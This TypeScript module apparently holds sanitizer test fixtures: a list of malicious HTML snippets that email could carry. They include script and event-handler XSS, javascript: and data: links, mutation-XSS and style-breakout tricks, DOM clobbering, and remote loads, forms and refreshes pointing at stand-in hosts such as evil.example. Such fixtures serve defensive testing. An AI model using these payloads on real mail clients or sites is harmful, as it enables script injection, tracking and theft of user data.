/** HTML that mail has carried, or could: each tries to run, to load, to send, to lead away or to cover. */
export const NASTY: Readonly<Record<string, string>> = {
  'a script': '<p>x</p><script>top.hit=1</script><script src="https://evil.example/a.js"></script>',
  'an event handler': '<img src=x onerror="top.hit=1"><body onload="top.hit=1"><svg onload="top.hit=1">',
  'a javascript link':
    '<a href="javascript:top.hit=1">x</a><a href=" java\tscript:top.hit=1">y</a><a href="vbscript:x">z</a>',
  'a data link': '<a href="data:text/html,<script>top.hit=1</script>">x</a>',
  'a form':
    '<form action="https://evil.example/f"><input name=p><button formaction="https://evil.example/g">go</button></form>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/r">',
  'a base': '<base href="https://evil.example/"><a href="b">x</a><img src="c.png">',
  'a frame':
    '<iframe src="https://evil.example/i"></iframe><iframe srcdoc="<script>top.hit=1</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  'a remote image':
    '<img src="https://evil.example/1.gif"><img srcset="https://evil.example/2.gif 2x"><input type=image src="https://evil.example/3.gif">',
  'a remote background':
    '<table background="https://evil.example/4.gif"><tr><td style="background:url(https://evil.example/5.gif)">x</table><div style="background-image:\\75 rl(https://evil.example/6.gif)">y</div>',
  'a style sheet':
    '<style>@import "https://evil.example/7.css"; @font-face{font-family:f;src:url(https://evil.example/8.woff)} p{background:url("https://evil.example/9.gif");font-family:f} @im\\port url(https://evil.example/10.css);</style><p>x</p><link rel=stylesheet href="https://evil.example/11.css">',
  'an image set':
    '<div style="background:image-set(\'https://evil.example/12.gif\' 1x)">x</div><div style="content:cross-fade(url(https://evil.example/13.gif), red)">x</div>',
  media:
    '<video src="https://evil.example/14.mp4" poster="https://evil.example/15.png"></video><audio src="https://evil.example/16.mp3"></audio><picture><source srcset="https://evil.example/17.png"><img></picture>',
  drawings:
    '<svg><image href="https://evil.example/18.png"/><use href="https://evil.example/19.svg#x"/><style>*{background:url(https://evil.example/20.png)}</style></svg><math><maction actiontype="statusline" xlink:href="javascript:top.hit=1">x</maction></math>',
  'markup that mutates':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hit=1&gt;">',
  'a template':
    '<template><img src="https://evil.example/21.gif" onerror="top.hit=1"></template><noscript><p title="</noscript><img src=x onerror=top.hit=1>">',
  'a comment of Outlook': '<!--[if mso]><img src="https://evil.example/22.gif"><![endif]--><p>x</p>',
  'a ping':
    '<a href="https://ok.example/" ping="https://evil.example/23">x</a><area href="https://evil.example/24">',
  'an unclosed style':
    '<style>p{color:red}</style ><img src=x onerror=top.hit=1><style>*{x:"</style><script>top.hit=1</script>"}',
  'a name that covers the page':
    '<img name="body"><a id="location" name="location">x</a><form id=document></form>',
  'a preload':
    '<link rel=preload as=image href="https://evil.example/25.png"><link rel=dns-prefetch href="//evil.example">',
  'a sheet that ends itself when its escapes are read':
    '<style>.x{content:"\\3c/sty\\3c/stylele\\3e \\3c link rel=preconnect href=http://out.example\\3e \\3c meta http-equiv=refresh content=\\27 0;url=http://out.example\\27\\3e \\3c h1\\3e x\\3c/h1\\3e \\3c form action=http://out.example\\3e\\3c input name=q\\3e\\3c button\\3e Send\\3c/button\\3e\\3c/form\\3e \\3c img src=x onerror=top.hit=1\\3e \\3c style\\3e "}</style><p>x</p>',
  'an attribute that ends itself when its escapes are read':
    "<p style='content:\"\\22\\3e\\3c/p\\3e\\3c form action=http://out.example\\3e\\3c input\\3e'>x</p><body style='content:\"\\22\\3e\\3c form\\3e\\3c input\\3e'>",
}
